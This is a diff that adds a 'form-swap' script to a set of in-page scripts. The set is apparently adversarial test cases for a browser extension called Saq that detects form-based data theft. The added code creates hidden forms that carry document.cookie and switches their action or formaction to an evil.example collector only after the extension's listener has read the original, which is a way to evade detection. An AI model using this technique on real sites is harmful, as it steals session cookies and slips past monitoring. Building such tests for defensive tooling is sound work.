@@ -609,6 +609,39 @@ export const MAIN_WORLD_SCRIPTS = {
   }
 })();`,
 
+  /**
+   * Points forms at its collector only inside their own submit listeners, after Saq's capture listener has
+   * read the shop's action: the form's `action` set as a property, a submit button's `formaction` by
+   * setAttribute. The cookie travels in a field, in the post's body; the action is put back afterwards.
+   */
+  'form-swap': `(() => {
+  const form = (sink, button) => {
+    const frame = document.createElement('iframe');
+    frame.name = sink;
+    frame.hidden = true;
+    const f = document.createElement('form');
+    f.method = 'POST';
+    f.action = '/kz/pages/questions';
+    f.target = sink;
+    const field = document.createElement('input');
+    field.name = 'note';
+    field.value = document.cookie;
+    f.append(field, button);
+    document.body.append(frame, f);
+    return f;
+  };
+  const first = form('swap-sink-1', document.createElement('button'));
+  first.addEventListener('submit', () => {
+    first.action = 'https://evil.example/f-swap';
+    setTimeout(() => (first.action = '/kz/pages/questions'), 0);
+  });
+  first.requestSubmit();
+  const button = document.createElement('button');
+  const second = form('swap-sink-2', button);
+  second.addEventListener('submit', () => button.setAttribute('formaction', 'https://evil.example/f-formaction-swap'));
+  second.requestSubmit(button);
+})();`,
+
   /** Posts hidden forms: one to a paste site, one by requestSubmit(button) whose formaction is a collector. */
   'form-post': `(() => {
   const frame = document.createElement('iframe');
